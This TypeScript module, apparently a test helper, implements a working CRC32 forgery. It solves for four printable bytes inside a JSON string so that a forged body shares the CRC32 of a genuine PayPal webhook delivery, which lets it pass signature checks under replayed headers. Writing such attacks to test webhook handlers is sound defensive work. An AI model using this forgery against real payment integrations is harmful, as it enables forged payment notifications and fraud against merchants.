// CRC32 forgery, as an attacker would do it: PayPal's webhook signature covers crc32(body), not the body
// (developer.paypal.com/api/rest/webhooks/rest/#link-eventheaders), so any body with the same CRC32 verifies
// under a genuine delivery's headers. CRC32 is affine over GF(2): crc(P‖X‖S) = M·X ⊕ c for a fixed 32×32 matrix
// M (invertible for 4 consecutive bytes), so 4 chosen bytes reach any target CRC. The bytes go inside a JSON
// string; a counter in front of them is bumped until all four are printable ASCII, so the JSON stays valid.
import { crc32 } from 'node:zlib';

/** Solves for the 4 bytes at `at` in `body` (already holding placeholder bytes there) that make crc32 = target. */
export function forceCrc32Bytes(body: Buffer, at: number, target: number): Buffer {
  const work = Buffer.from(body);
  const crcWith = (x: number) => {
    work.writeUInt32LE(x >>> 0, at);
    return crc32(work) >>> 0;
  };
  const base = crcWith(0);
  // Column i: how bit i of the patch flips the CRC.
  const columns = Array.from({ length: 32 }, (_, i) => (crcWith(2 ** i) ^ base) >>> 0);
  // Gauss-Jordan elimination over GF(2): rows are CRC bits, one augmented bit for the target difference.
  const rows = Array.from({ length: 32 }, (_, bit) => {
    let row = 0n;
    for (let i = 0; i < 32; i++) if ((columns[i]! >>> bit) & 1) row |= 1n << BigInt(i);
    return { row, rhs: ((target ^ base) >>> bit) & 1 };
  });
  for (let col = 0; col < 32; col++) {
    const pivot = rows.findIndex((r, k) => k >= col && (r.row >> BigInt(col)) & 1n);
    if (pivot < 0) throw new Error('singular CRC matrix: 4 consecutive bytes are always solvable');
    [rows[col], rows[pivot]] = [rows[pivot]!, rows[col]!];
    for (let k = 0; k < 32; k++)
      if (k !== col && (rows[k]!.row >> BigInt(col)) & 1n) {
        rows[k] = { row: rows[k]!.row ^ rows[col]!.row, rhs: rows[k]!.rhs ^ rows[col]!.rhs };
      }
  }
  let x = 0;
  for (let i = 0; i < 32; i++) if (rows[i]!.rhs) x |= 1 << i;
  const patch = Buffer.alloc(4);
  patch.writeUInt32LE(x >>> 0, 0);
  return patch;
}

const jsonSafe = (b: number) => b >= 0x20 && b <= 0x7e && b !== 0x22 && b !== 0x5c;

/**
 * Returns `json` with `marker` (which must occur once, inside a JSON string) replaced by a counter and 4
 * printable bytes chosen so that crc32(result) = crc32(genuine). The result is still valid JSON.
 */
export function forgeWithCrcOf(genuine: Buffer | string, json: string, marker: string): Buffer {
  const target = crc32(Buffer.from(genuine)) >>> 0;
  const at = json.indexOf(marker);
  if (at < 0 || json.indexOf(marker, at + 1) >= 0) throw new Error(`marker ${marker} must occur exactly once`);
  for (let n = 0; n < 1_000_000; n++) {
    const prefix = Buffer.from(`${json.slice(0, at)}${n.toString(36)}-`);
    const body = Buffer.concat([prefix, Buffer.alloc(4), Buffer.from(json.slice(at + marker.length))]);
    const patch = forceCrc32Bytes(body, prefix.length, target);
    if (!patch.every(jsonSafe)) continue;
    patch.copy(body, prefix.length);
    return body;
  }
  throw new Error('no printable CRC32 patch found');
}
